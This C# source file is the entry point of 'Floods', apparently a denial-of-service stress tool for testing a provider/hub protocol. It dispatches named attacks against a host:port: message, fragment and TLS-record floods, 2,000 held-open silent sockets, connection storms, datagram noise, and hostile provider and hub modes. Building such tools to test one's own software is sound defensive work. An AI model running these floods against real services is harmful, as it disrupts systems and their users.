using System.Globalization;
using System.Net.Sockets;

namespace Floods;

/// <summary>
/// A client that attacks a provider or a hub shared with others, or a provider that attacks a consumer's machine: it endlessly sends
/// messages that cost it little.
/// </summary>
/// <remarks>
/// Floods kind host:port seconds; it prints the amount sent. The provider may close the connection: it reconnects. Floods provider kind:
/// see <see cref="HostileProvider"/>.
/// </remarks>
internal static class Program
{
    private const int SilentSockets = 2_000;

    private static readonly Dictionary<string, Func<Attack, CancellationToken, Task>> Kinds = new()
    {
        ["pings"] = (attack, stop) => attack.RepeatAsync("000302", stop),
        ["packs"] = (attack, stop) => attack.RepeatAsync("000312", stop),
        ["empty-packed"] = (attack, stop) => attack.RepeatAsync("0005120000", stop),
        ["fragments"] = (attack, stop) => attack.RepeatAsync("000a0308000000050001", stop),
        ["restarts"] = (attack, stop) => attack.RestartMessagesAsync(stop),
        ["websocket-pings"] = (attack, stop) => attack.RepeatOverWebSocketAsync("898000000000", stop),
        ["tls-records"] = (attack, stop) => attack.RepeatSmallRecordsAsync(stop),
        ["dictionaries"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.Dictionary, reads: false, stop),
        ["dictionaries-read"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.Dictionary, reads: true, stop),
        ["logins"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.Login, reads: true, stop),
        ["items"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.Item, reads: false, stop),
        ["items-read"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.Item, reads: true, stop),
        ["items-spread"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.SpreadItem, reads: true, stop),
        ["names"] = (attack, stop) => attack.RepeatRequestsAsync(AttackRequests.LongItem, reads: true, stop),
        ["silent"] = (attack, stop) => attack.HoldSilentSocketsAsync(SilentSockets, stop),
        ["storm"] = (attack, stop) => attack.ConnectAndLeaveAsync(stop),
        ["noise"] = (attack, stop) => attack.SendNoiseAsync(stop),
        ["datagrams"] = (attack, stop) => attack.SendDatagramsAsync(stop),
    };

    private static async Task<int> Main(string[] args)
    {
        if (args is ["provider", var hostile, ..])
            return await HostileProvider.RunAsync(hostile, args[2..]);
        if (args is ["hub", ..])
            return await HostileHub.RunAsync(args[1..]);
        if (args is ["face", var way, var face, var length] && FaceAttacks.Kinds.Contains(way))
            return await FaceAttacks.RunAsync(way, face, double.Parse(length, CultureInfo.InvariantCulture));
        if (args is ["counts", var log, var from, var to])
            return LatencyAttacks.WriteCounts(log, double.Parse(from, CultureInfo.InvariantCulture), double.Parse(to, CultureInfo.InvariantCulture));
        if (args is ["latency", var disturbance, var domain, var time] && LatencyAttacks.Kinds.Contains(disturbance))
        {
            return LatencyAttacks.Run(disturbance, int.Parse(domain, CultureInfo.InvariantCulture),
                double.Parse(time, CultureInfo.InvariantCulture));
        }

        if (args is not [var kind, var address, var seconds] || !Kinds.TryGetValue(kind, out Func<Attack, CancellationToken, Task>? run)
            || address.Split(':') is not [var host, var port])
        {
            Console.Error.WriteLine($"usage: Floods kind host:port seconds     (kinds: {string.Join(", ", Kinds.Keys)})");
            Console.Error.WriteLine($"       Floods hub kind host consumersPort providersPort seconds (kinds: {string.Join(", ", HostileHub.Kinds)})");
            Console.Error.WriteLine($"       Floods provider kind [cert key]   (kinds: {string.Join(", ", HostileProvider.Kinds)})");
            Console.Error.WriteLine($"       Floods face kind address:port seconds (kinds: {string.Join(", ", FaceAttacks.Kinds)})");
            Console.Error.WriteLine($"       Floods latency kind domain seconds (kinds: {string.Join(", ", LatencyAttacks.Kinds)})");
            return 2;
        }

        using CancellationTokenSource stop = new(TimeSpan.FromSeconds(double.Parse(seconds, CultureInfo.InvariantCulture)));
        Attack attack = new(host, int.Parse(port, CultureInfo.InvariantCulture));
        while (!stop.IsCancellationRequested)
        {
            try
            {
                await run(attack, stop.Token);
            }
            catch (Exception problem) when (problem is IOException or SocketException or OperationCanceledException)
            {
                attack.Ended++; // closed, or ended
            }
        }

        Console.WriteLine(string.Create(CultureInfo.InvariantCulture,
            $"{kind,-18} {attack.Bytes / 1e6,8:F1} MB sent, {attack.Connections} connections"));
        return 0;
    }
}
